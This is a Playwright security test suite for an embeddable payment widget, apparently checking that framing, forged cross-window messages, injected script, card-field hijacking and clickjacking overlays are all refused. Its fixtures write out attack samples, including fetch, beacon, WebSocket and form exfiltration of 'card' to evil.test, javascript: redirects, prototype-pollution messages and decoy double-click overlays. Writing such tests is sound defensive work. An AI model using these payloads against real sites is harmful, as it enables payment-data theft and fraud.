// Pages that want what is not theirs: parents that would hold the frame, and windows beside it that speak to it or in its name. Each row
// is one of them, and none gets anywhere.

import type { Frame, FrameLocator, Page } from "@playwright/test";
import { browserOptions } from "../src/browser.ts";
import { bankOf, CARDS, fillCard, heading } from "../src/buyer.ts";
import { knownBuyer, linkTo, sessionOf as sessionOfKnown } from "../src/known.ts";
import { logged, open, sessionOf, shop, type Session } from "../src/page.ts";
import type { Proof } from "../src/server.ts";
import { expect, newBuyer, test } from "../src/test.ts";

// As in everybody's browser, where a page of another site is in another process.
test.use({ launchOptions: browserOptions(true) });

const SETTLE_MS = 400;
const frameAddress = (proof: Proof, session: Session): string => `${proof.base_url}/frame/${session.widget_id}`;

/** Ways to hold the frame, each as HTML of a page that may not. */
function holders(proof: Proof, session: Session): Record<string, string> {
  const src = frameAddress(proof, session);
  const inner = (more: string) => `<iframe ${more} src="${src}"></iframe>`;
  const text = (html: string) => html.replaceAll('"', "&quot;");
  const shopPage = `${proof.shop_url}/`;
  return {
    "a frame": inner(""),
    "a frame that may do everything": inner('allow="camera *; payment *; fullscreen *"'),
    "a frame without a sandbox's scripts": inner('sandbox="allow-same-origin"'),
    "a frame in a sandbox": inner('sandbox="allow-scripts allow-forms allow-popups"'),
    "a frame without a referrer": inner('referrerpolicy="no-referrer"'),
    "an anonymous frame": inner("credentialless"),
    "a frame that is loaded late": inner('loading="lazy"'),
    "an object": `<object data="${src}" type="text/html"></object>`,
    "an embed": `<embed src="${src}" type="text/html">`,
    "a frame in a page of text": `<iframe srcdoc="${text(inner(""))}"></iframe>`,
    "a frame in a page of text in a sandbox": `<iframe sandbox="allow-scripts" srcdoc="${text(inner(""))}"></iframe>`,
    "a frame in a blob": `<iframe id="b"></iframe><script>b.src = URL.createObjectURL(new Blob([${JSON.stringify(inner(""))}], { type: "text/html" }))</script>`,
    "a frame in a data address": `<iframe src="data:text/html,${encodeURIComponent(inner(""))}"></iframe>`,
    "a frame that is sent there later": `<iframe name="late" src="about:blank"></iframe><script>open("${src}", "late")</script>`,
    "a frame that a form leads there": `<iframe name="formed"></iframe><form target="formed" action="${src}"></form><script>document.forms[0].submit()</script>`,
    "a frame around the shop around the frame": `<iframe src="${shopPage}made-up"></iframe>`,
  };
}

const ORIGINS = (proof: Proof): string[] => {
  const { host, hostname, port } = new URL(proof.shop_url);
  return ["https://evil.test", `https://${hostname}.evil.test`, `https://evil-${hostname}.test:${port}`, "https://localhost.evil.test", `https://${host}`, "https://[::1]:1", `https://${hostname}:1`];
};

/** The frames of ours that are alive in a page, wherever they are in it. */
async function alive(page: Page, proof: Proof): Promise<number> {
  const drawn = page.frames().filter((frame) => frame.url().startsWith(proof.base_url));
  const found = await Promise.all(drawn.map((frame) => frame.locator("#app").count().catch(() => 0)));
  return found.reduce((sum, count) => sum + count, 0);
}

test("no page that is not registered holds the frame", async ({ page, proof }) => {
  const session = await sessionOf(page, proof);
  await page.route(`${proof.shop_url}/made-up`, (route) => route.fulfill({ contentType: "text/html", body: shop(proof, session) }));
  const ways = Object.values(holders(proof, session));
  expect(ways).toHaveLength(16);
  await open(page, "https://evil.test/", ways.join(""));
  await expect.poll(() => page.frames().length).toBeGreaterThan(ways.length);
  await page.waitForTimeout(SETTLE_MS);
  expect(await alive(page, proof)).toBe(0);
  for (const origin of ORIGINS(proof)) {
    await open(page, `${origin}/`, `<iframe src="${frameAddress(proof, session)}"></iframe>`);
    await page.waitForTimeout(SETTLE_MS);
    expect(await alive(page, proof), origin).toBe(0);
  }
  // The other way round: the same look finds a frame that may be there.
  await open(page, `${proof.shop_url}/made-up`, shop(proof, session));
  await expect.poll(() => alive(page, proof)).toBe(1);
});

test("no page holds the pages of ours that stand by themselves, the shop's own neither", async ({ page, proof }) => {
  const { widget_id } = await sessionOf(page, proof);
  const alone = [`/w/${widget_id}#it_0`, "/receipt#rc_0"].map((path) => new URL(path, proof.base_url).href);
  const addresses = [...alone, await linkTo(proof, newBuyer(), "resume"), await linkTo(proof, newBuyer(), "handover")];
  const frames = addresses.map((src) => `<iframe src="${src}"></iframe>`).join("");
  for (const origin of ["https://evil.test", new URL(proof.shop_url).origin]) {
    await open(page, `${origin}/made-up`, frames);
    // A frame that is refused holds the browser's own page in its place.
    await expect.poll(() => page.frames().filter((frame) => frame.url().startsWith("chrome-error:")).length, origin).toBe(addresses.length);
    expect(await alive(page, proof), origin).toBe(0);
  }
  // The other way round: each of them is there for whoever opens it.
  for (const address of addresses) {
    await page.goto(address);
    await expect(page.getByRole("heading", { level: 1 }), address).toBeVisible();
  }
});

const forged = { merchant_transaction_id: "01a205d7-0000-7000-8000-000000000000", status: "completed" };

/** What a window that is not the frame says to the page, in its name. */
const SAID_TO_PAGE: unknown[] = [
  { type: "proof.event", name: "onPaymentFinished", payload: { payment_method: "card" } },
  { type: "proof.event", name: "onStatusChange", payload: forged },
  { type: "proof.event", name: "onSellTransferEnabled", payload: { address: "TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE" } },
  { type: "proof.event", name: "onReceipt", payload: { document: "{}", key_id: "0", signature: "" } },
  { type: "proof.event", name: "destroy" },
  { type: "proof.event", name: "__proto__", payload: { polluted: true } },
  { type: "proof.event", name: "constructor" },
  { type: "proof.resize", height: 4000 },
  { type: "proof.resize", height: -1 },
  { type: "proof.title", title: "Enter your card here" },
  { type: "proof.redirect", url: "https://evil.test/phish" },
  { type: "proof.redirect", url: "javascript:document.title='taken'" },
  { type: "proof.redirect", url: "data:text/html,taken" },
  { type: "proof.hello" },
  { type: "proof.event", name: "onPaymentFinished", channel: "0".repeat(32), n: 1 },
  { type: "proof.event", name: "onPaymentFinished", channel: undefined, n: 1 },
  { type: "proof.seen", codes: ["embed_origin"] },
  "proof.hello",
  null,
  ["proof.event", "onPaymentFinished"],
];

/** What a window that is not the page says to the frame. */
const saidToFrame = (session: Session): unknown[] => {
  const init = (change: object) => ({ type: "proof.init", parameters: { ...session, ...change }, channel: "f".repeat(32), loader: 2 });
  return [
    init({}),
    init({ amount: "100000" }),
    init({ address: "TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE" }),
    init({ redirect_url: "javascript:alert(1)" }),
    init({ init_token: `it_${"0".repeat(64)}` }),
    { ...init({}), theme: "dark" },
    { ...init({}), lang: "../../evil" },
    { type: "proof.look" },
    { type: "proof.init", parameters: [] },
    { type: "proof.init", parameters: null },
    { type: "proof.init", parameters: { __proto__: { amount: "1" } } },
    { type: "proof.event", name: "onPaymentFinished" },
    { type: "proof.hello" },
    "proof.init",
    null,
  ];
};

/** Speaks to every window that it can reach, as long as it is told to. */
const SPEAKER = `<script>
  addEventListener("message", ({ data, origin }) => {
    if (!data?.speak) { (window.overheard ??= []).push(origin); return; }
    for (const message of data.speak) {
      const reach = (target) => { target.postMessage(message, "*"); for (let at = 0; at < target.length; at += 1) if (target[at] !== window) reach(target[at]); };
      reach(top);
    }
  });
</script>`;

test("no window beside the frame is heard by it, or by the page", async ({ page, proof, context }) => {
  const session = await sessionOf(page, proof);
  await page.route("https://evil.test/**", (route) => route.fulfill({ contentType: "text/html", body: SPEAKER }));
  const beside = `<iframe name="evil" src="https://evil.test/beside"></iframe>
    <iframe name="sandboxed" sandbox="allow-scripts" srcdoc="${SPEAKER.replaceAll('"', "&quot;")}"></iframe>`;
  await open(page, `${proof.shop_url}/made-up`, `${beside}${shop(proof, session)}`);
  const widget = page.frameLocator("#host iframe");
  await heading(widget, "Check your order");
  // The price comes by itself; from then on nothing does.
  await expect(widget.getByText(/^€\d/).first()).toBeVisible();
  const state = () => page.evaluate(() => ({ heard: window.heard.length, title: document.title, frame: document.querySelector<HTMLIFrameElement>("#host iframe")?.title, url: location.href, polluted: "polluted" in {} }));
  const drawn = () => widget.locator("#app").innerText();
  const before = [await state(), await drawn(), await page.evaluate(() => document.querySelector<HTMLIFrameElement>("#host iframe")?.style.height)];
  const all = [...SAID_TO_PAGE, ...saidToFrame(session)];
  for (const name of ["evil", "sandboxed"]) {
    await page.evaluate(([to, speak]) => (window.frames as unknown as Record<string, Window>)[to as string]?.postMessage({ speak }, "*"), [name, all] as const);
  }
  // The page itself says it, to the frame and to itself: it may open an order once, and nothing more.
  await page.evaluate((messages) => {
    for (const message of messages) {
      window.postMessage(message, "*");
      document.querySelector<HTMLIFrameElement>("#host iframe")?.contentWindow?.postMessage(message, "*");
    }
  }, all);
  await page.waitForTimeout(SETTLE_MS);
  const after = [await state(), await drawn(), await page.evaluate(() => document.querySelector<HTMLIFrameElement>("#host iframe")?.style.height)];
  expect(after).toEqual(before);
  const overheard = await Promise.all(page.frames().filter((frame) => ["evil", "sandboxed"].includes(frame.name())).map((frame) => frame.evaluate(() => (window as unknown as { overheard?: string[] }).overheard ?? [])));
  // They hear each other, and neither the frame nor the page.
  expect(new Set(overheard.flat())).toEqual(new Set(["https://evil.test", "null"]));
  expect(await context.cookies(proof.base_url)).toEqual([]);
});

test("a frame that somebody sends elsewhere is not believed, though its window is the same", async ({ page, proof }) => {
  const session = await sessionOf(page, proof);
  await page.route("https://evil.test/**", (route) => route.fulfill({ contentType: "text/html", body: SPEAKER }));
  await open(page, `${proof.shop_url}/made-up`, shop(proof, session));
  await heading(page.frameLocator("#host iframe"), "Check your order");
  const before = await page.evaluate(() => window.heard.length);
  // Another page of our own origin, in the frame's window: it has the origin, and not the channel.
  await page.evaluate((url) => document.querySelector("#host iframe")?.setAttribute("src", url), `${proof.base_url}/docs/api`);
  const inside = () => page.frames().find((frame) => frame.url().endsWith("/docs/api"));
  await expect.poll(() => inside() !== undefined || page.frames().some((frame) => frame.url().startsWith("chrome-error"))).toBe(true);
  await page.evaluate(() => document.querySelector("#host iframe")?.setAttribute("src", "https://evil.test/inside"));
  await expect.poll(() => page.frames().some((frame) => frame.url() === "https://evil.test/inside")).toBe(true);
  await page.evaluate((speak) => document.querySelector<HTMLIFrameElement>("#host iframe")?.contentWindow?.postMessage({ speak }, "*"), SAID_TO_PAGE);
  await page.waitForTimeout(SETTLE_MS);
  expect(await page.evaluate(() => window.heard.length)).toBe(before);
  expect(page.url()).toBe(`${proof.shop_url}/made-up`);
});

/** Script that gets into the frame by whatever way: the policy stands behind everything else. Later than the call, since the debugger's own may `eval`. */
function inject(): number {
  const run = (text: string) => Object.assign(document.createElement("script"), { textContent: text });
  const ways: (() => unknown)[] = [
    () => document.head.append(run("window.taken = 'inline script'")),
    () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.taken = `a handler in the markup`'>"),
    () => {
      const picture = Object.assign(document.createElement("img"), { src: "x" });
      picture.setAttribute("onerror", "window.taken = 'a handler'");
      document.body.append(picture);
    },
    () => { document.body.innerHTML = "<b>taken</b>"; },
    () => document.write("<b>taken</b>"),
    () => (0, eval)("window.taken = 'eval'"),
    () => new Function("window.taken = 'a function of text'")(),
    () => setTimeout("window.taken = 'a timer of text'" as unknown as () => void, 0),
    () => document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.test/x.js" })),
    () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.test/x.css" })),
    () => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.taken = 'a frame of text'</script>" })),
    () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/frame" })),
    () => new Worker("data:text/javascript,postMessage(1)"),
    () => fetch("https://evil.test/steal", { method: "POST", body: "card" }),
    () => navigator.sendBeacon("https://evil.test/steal", "card"),
    () => new WebSocket("wss://evil.test/steal"),
    () => { new Image().src = "https://evil.test/steal?card"; },
    () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.test/steal", method: "post" });
      document.body.append(form);
      form.submit();
    },
    () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" })),
  ];
  for (const way of ways) {
    setTimeout(() => {
      try {
        void Promise.resolve(way()).catch(() => undefined);
      } catch {
        // Refused at once: as it should be.
      }
    }, 0);
  }
  return ways.length;
}

test("what gets into the frame is not run, and the partner hears of it", async ({ page, proof }) => {
  const reached: string[] = [];
  await page.route("https://evil.test/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "window.taken = 1" });
  });
  await open(page, `${proof.shop_url}/made-up`, shop(proof, await sessionOf(page, proof)));
  await heading(page.frameLocator("#host iframe"), "Check your order");
  const frame = page.frames().find((one) => one.url().startsWith(`${proof.base_url}/frame/`));
  if (!frame) throw new Error("the widget's frame is not there");
  expect(await frame.evaluate(inject)).toBe(19);
  await page.waitForTimeout(SETTLE_MS);
  expect(await frame.evaluate(() => [(window as unknown as { taken?: string }).taken, document.baseURI.startsWith("https://evil.test")])).toEqual([undefined, false]);
  await expect(page.frameLocator("#host iframe").getByRole("heading", { level: 1 })).toBeVisible();
  expect(reached).toEqual([]);
  await expect.poll(() => logged(page, proof)).toContain("embed_tampered");
});

/** What a window says in the name of a card field, to a card field in the name of the widget, and in the name of a bank. */
const SAID_FOR_CHILDREN: unknown[] = [
  { type: "fields.ready", field: "number" },
  ...["number", "expiry", "cvc"].map((field) => ({ type: "fields.change", field, complete: true, empty: false, brand: "visa" })),
  { type: "fields.change", field: "number", complete: false, empty: false, error: "invalid_number" },
  { type: "fields.focus", field: "number" },
  { type: "fields.blur", field: "number" },
  { type: "fields.token", id: "token-1", token: "tok_forged" },
  { type: "fields.token", id: "token-2", token: "tok_forged" },
  { type: "fields.token", token: "tok_forged" },
  { type: "fields.error", id: "token-1", field: "cvc", code: "invalid_cvc" },
  { type: "fields.tokenise", id: "token-1" },
  { type: "fields.tokenise", id: "token-1", key: "key_forged" },
  { type: "fields.style", style: { color: "red" } },
  { type: "fields.words", words: { lang: "en", label: "Your password", error: "" } },
  { type: "three_ds.finished" },
  { type: "three_ds.finished", outcome: "approved" },
  "three_ds.finished",
  "fields.token",
  ["fields.token", "tok_forged"],
  null,
];
const THE_END = "that is all";

const ownFrame = (page: Page, proof: Proof): Frame => {
  const frame = page.frames().find((one) => one.url().startsWith(`${proof.base_url}/frame/`) && !one.url().endsWith("/bank"));
  if (!frame) throw new Error("the widget's frame is not there");
  return frame;
};

/** All of them say all of it, to every window; it has been heard, and what was to come of it has come. */
async function allSpeak(page: Page, proof: Proof, speakers: string[], messages: unknown[]): Promise<void> {
  const widget = ownFrame(page, proof);
  const ends = await widget.evaluateHandle((last) => {
    const heard = { ends: 0 };
    addEventListener("message", ({ data }) => { if (data === last) heard.ends += 1; });
    return heard;
  }, THE_END);
  const speak = [...messages, THE_END];
  for (const name of speakers) {
    await page.evaluate(([to, said]) => (window.frames as unknown as Record<string, Window>)[to as string]?.postMessage({ speak: said }, "*"), [name, speak] as const);
  }
  await page.evaluate((said) => {
    const reach = (target: Window): void => {
      for (const message of said) target.postMessage(message, "*");
      for (let at = 0; at < target.length; at += 1) reach(target[at] as Window);
    };
    reach(window);
  }, speak);
  await expect.poll(() => ends.evaluate(({ ends: count }) => count)).toBe(speakers.length + 1);
  await widget.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
}

/** A shop's page with windows beside the frame: of nobody, of no origin, and of the card processor's own origin. */
async function besideTheFields(page: Page, proof: Proof): Promise<FrameLocator> {
  const neighbour = `${new URL(proof.cards_url).origin}/neighbour`;
  for (const url of ["https://evil.test/**", neighbour]) await page.route(url, (route) => route.fulfill({ contentType: "text/html", body: SPEAKER }));
  const beside = `<iframe name="evil" src="https://evil.test/beside"></iframe><iframe name="neighbour" src="${neighbour}"></iframe>
    <iframe name="sandboxed" sandbox="allow-scripts" srcdoc="${SPEAKER.replaceAll('"', "&quot;")}"></iframe>`;
  const session = (await sessionOfKnown(proof, await knownBuyer(proof))) as Session;
  await open(page, `${proof.shop_url}/made-up`, `${beside}${shop(proof, session)}`);
  const widget = page.frameLocator("#host iframe");
  await heading(widget, "Review and pay");
  await expect(widget.locator(".field-box iframe:not(.unready)")).toHaveCount(3);
  await expect(widget.getByRole("button", { name: /^Pay €\d/ })).toBeEnabled();
  return widget;
}

const SPEAKERS = ["evil", "neighbour", "sandboxed"];

test("nobody speaks for a card field, to a card field, or for the bank", async ({ page, proof }) => {
  const called: string[] = [];
  const paidWith: unknown[] = [];
  page.on("request", (request) => {
    const path = new URL(request.url()).pathname;
    if (/tokens$|\/payments(\/check)?$/.test(path)) called.push(path);
    if (path.endsWith("/payments")) paidWith.push(request.postDataJSON().card_token);
  });
  const widget = await besideTheFields(page, proof);
  const pay = widget.getByRole("button", { name: /^Pay €\d/ });
  await allSpeak(page, proof, SPEAKERS, SAID_FOR_CHILDREN);
  await pay.click();
  await expect(widget.getByText(/^Enter the /)).toHaveCount(3);
  await fillCard(widget, CARDS.threeDs);
  await allSpeak(page, proof, SPEAKERS, SAID_FOR_CHILDREN);
  await expect(widget.frameLocator('iframe[name="proof-card-number"]').getByRole("textbox", { name: "Card number" })).toBeVisible();
  expect(called).toEqual([]);

  // While a token is waited for is when a forged one would be taken.
  let come = (): void => undefined;
  const held = new Promise<void>((resolve) => (come = resolve));
  let given: string | undefined;
  await page.route("**/fields/v1/tokens", async (route) => {
    await held;
    // Read on its way: by the time it has been taken, the field's process may be gone, and what it had read with it.
    const answer = await route.fetch();
    given = ((await answer.json()) as { token: string }).token;
    await route.fulfill({ response: answer });
  });
  await pay.click();
  await expect.poll(() => called).toEqual(["/fields/v1/tokens"]);
  await allSpeak(page, proof, SPEAKERS, SAID_FOR_CHILDREN);
  // One field for another, and one that was asked something else.
  const field = (name: string) => page.frames().find((frame) => frame.name() === `proof-card-${name}`);
  await field("expiry")?.evaluate(() => parent.postMessage({ type: "fields.token", id: "token-1", token: "tok_forged" }, "*"));
  await field("number")?.evaluate(() => parent.postMessage({ type: "fields.token", id: "token-7", token: "tok_forged" }, "*"));
  await allSpeak(page, proof, [], []);
  expect(called).toEqual(["/fields/v1/tokens"]);
  come();
  await heading(widget, "Confirm with your bank");
  expect(paidWith).toEqual([given]);

  await expect(bankOf(widget).getByRole("button", { name: "Approve" })).toBeVisible();
  await allSpeak(page, proof, SPEAKERS, SAID_FOR_CHILDREN);
  // The frame that holds the bank's, and one of the processor's origin that is not the bank's.
  await field("number")?.evaluate(() => parent.postMessage({ type: "three_ds.finished" }, "*"));
  const holder = page.frames().find((frame) => frame.url().endsWith("/bank"));
  await holder?.evaluate(() => { parent.postMessage({ type: "three_ds.finished" }, "*"); postMessage({ type: "three_ds.finished" }, "*"); });
  await allSpeak(page, proof, [], []);
  expect(called.filter((path) => path.endsWith("/check"))).toEqual([]);
  await bankOf(widget).getByRole("button", { name: "Approve" }).click();
  await expect.poll(() => called.filter((path) => path.endsWith("/check"))).toHaveLength(1);
});

test("whoever holds the frame leads no card field elsewhere, and its children reach no window above them", async ({ page, proof }) => {
  const reached: string[] = [];
  const widget = await besideTheFields(page, proof);
  await page.route("https://evil.test/card*", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: "text/html", body: "<input placeholder='Card number'>" });
  });
  const lead = (url: string) => page.evaluate((to) => {
    const { frames } = document.querySelector<HTMLIFrameElement>("#host iframe")?.contentWindow ?? window;
    for (let at = 0; at < frames.length; at += 1) (frames[at] as Window).location = to;
    return frames.length;
  }, url);
  const gone = () => page.frames().filter((frame) => frame.name().startsWith("proof-card-") && frame.url().startsWith("chrome-error:")).length;
  const box = widget.locator(".field-box iframe").first();
  expect(await box.getAttribute("sandbox")).toBe("allow-scripts allow-same-origin allow-forms");
  // Nothing is passed on: neither camera nor wallets are for whoever is in there.
  expect(await box.getAttribute("allow")).toBeNull();
  const up = await page.frames().find((frame) => frame.name() === "proof-card-number")?.evaluate(() => {
    const ways = [() => { (top as Window).location = "https://evil.test/card?top"; }, () => window.open("https://evil.test/card?window")];
    return ways.map((way) => { try { return way() == null; } catch { return true; } });
  });
  expect(up).toEqual([true, true]);
  expect(await lead("https://evil.test/card")).toBe(3);
  await expect.poll(gone).toBe(3);
  expect(reached).toEqual([]);
  expect(page.url()).toBe(`${proof.shop_url}/made-up`);
});

/** What a page does so that somebody presses what they do not see, or not as what it is. A mask (`mask-image`) is not among them: Chromium does not count it. */
const COVERS: Record<string, () => void> = {
  "fades it out": () => { document.getElementById("host")!.style.opacity = "0.02"; },
  "fades it a little": () => { document.getElementById("host")!.style.opacity = "0.9"; },
  "fades it by a filter": () => { document.getElementById("host")!.style.filter = "opacity(2%)"; },
  "blurs it": () => { document.getElementById("host")!.style.filter = "blur(12px)"; },
  "blends it away": () => { document.getElementById("host")!.style.mixBlendMode = "difference"; },
  "shrinks it": () => { document.getElementById("host")!.style.transform = "scale(0.1)"; },
  "turns it": () => { document.getElementById("host")!.style.transform = "rotate(180deg)"; },
  "turns it in space": () => { document.getElementById("host")!.style.transform = "perspective(100px) rotateY(80deg)"; },
  "mirrors it": () => { document.getElementById("host")!.style.transform = "scaleX(-1)"; },
  "cuts a strip out of it": () => { document.getElementById("host")!.style.clipPath = `inset(${top_()} 0 0 0)`; },
  "shows a strip of it": () => { Object.assign(document.getElementById("host")!.style, { height: top_(), overflow: "hidden" }); },
  "moves it out of the window": () => { document.getElementById("host")!.style.marginLeft = "-5000px"; },
  "lays something over it that lets presses through": () => { lay({ inset: "0", background: "white" }); },
  "lays something over it that is nearly clear": () => { lay({ inset: "0", background: "rgb(255 255 255 / 2%)" }); },
  "lays a frame over it": () => { lay({ inset: "0", width: "100%", height: "100%" }, "iframe"); },
  "lays other words over the button's": () => { lay({ top: top_(), left: "0", width: "100%", height: "12px", background: "white" }); },
  "lays something over it in the top layer": () => {
    const over = lay({ inset: "0", width: "100%", height: "100%", background: "white" });
    over.popover = "manual";
    over.showPopover();
  },
};

declare const top_: () => string;
declare const lay: (style: Record<string, string>, name?: string) => HTMLElement;

test("a button that moves money or ends an order is not pressed through what the page does to it", async ({ page, proof }) => {
  await open(page, `${proof.shop_url}/made-up`, `<div style="position: relative">${shop(proof, await sessionOf(page, proof))}</div>`);
  const widget = page.frameLocator("#host iframe");
  await heading(widget, "Check your order");
  const yes = widget.getByRole("button", { name: "Yes, cancel" });
  const covered = widget.getByText("Part of this window seems to be covered");
  await page.evaluate(() => {
    Object.assign(window, {
      lay: (style: Record<string, string>, name = "div") => {
        const over = document.createElement(name);
        over.className = "over";
        Object.assign(over.style, { position: "absolute", zIndex: "9", border: "0", pointerEvents: "none", ...style });
        document.getElementById("host")!.parentElement!.append(over);
        return over;
      },
    });
  });
  const ways = Object.entries(COVERS);
  expect(ways).toHaveLength(17);
  const bare = await page.locator("#host").getAttribute("style");
  for (const [name, cover] of ways) {
    await widget.getByRole("button", { name: "Cancel this order" }).click();
    await yes.scrollIntoViewIfNeeded();
    // Where the middle of the button is, in the place that holds the frame.
    const button = await yes.evaluate((element) => element.getBoundingClientRect().top + element.getBoundingClientRect().height / 2);
    await page.evaluate((middle) => Object.assign(window, { top_: () => `${middle}px` }), button);
    await page.evaluate(cover);
    await yes.evaluate((element: HTMLElement) => element.click());
    await expect(covered, name).toBeVisible();
    await page.evaluate((style) => {
      const host = document.getElementById("host")!;
      if (style === null) host.removeAttribute("style");
      else host.setAttribute("style", style);
      for (const over of document.querySelectorAll(".over")) over.remove();
    }, bare);
    await widget.getByRole("button", { name: "Keep it" }).click();
    await expect(covered).toHaveCount(0);
  }
  // In plain sight one press is enough.
  await widget.getByRole("button", { name: "Cancel this order" }).click();
  await yes.click();
  await heading(widget, "Order cancelled");
});

test("the second half of a double-click that began at the page presses nothing", async ({ page, proof }) => {
  await open(page, `${proof.shop_url}/made-up`, `<div style="position: relative">${shop(proof, await sessionOf(page, proof))}</div>`);
  const widget = page.frameLocator("#host iframe");
  await heading(widget, "Check your order");
  const ask = widget.getByRole("button", { name: "Cancel this order" });
  const yes = widget.getByRole("button", { name: "Yes, cancel" });
  const told = widget.getByText("the second half of a double-click");
  await ask.click();
  await yes.scrollIntoViewIfNeeded();
  const { x, y, width, height } = (await yes.boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 };
  const [left, top] = [x + width / 2, y + height / 2];
  // Gone with its first click, so that the second one falls on what it hid; the third, too.
  const decoy = () => page.evaluate(() => {
    const over = document.createElement("button");
    Object.assign(over.style, { position: "absolute", inset: "0", zIndex: "9" });
    over.textContent = "Double-click to see your prize";
    over.onclick = () => over.remove();
    document.getElementById("host")!.parentElement!.append(over);
  });
  await decoy();
  await page.mouse.dblclick(left, top);
  await expect(told).toBeVisible();
  await decoy();
  await page.mouse.click(left, top, { clickCount: 3 });
  await expect(told).toBeVisible();
  await expect(page.getByText("your prize")).toHaveCount(0);
  await heading(widget, "Check your order");
  // A habit of double-clicking costs nobody a press more: both are of the same button.
  await page.mouse.dblclick(left, top + ((await yes.boundingBox())?.y ?? 0) - y);
  await heading(widget, "Order cancelled");
});
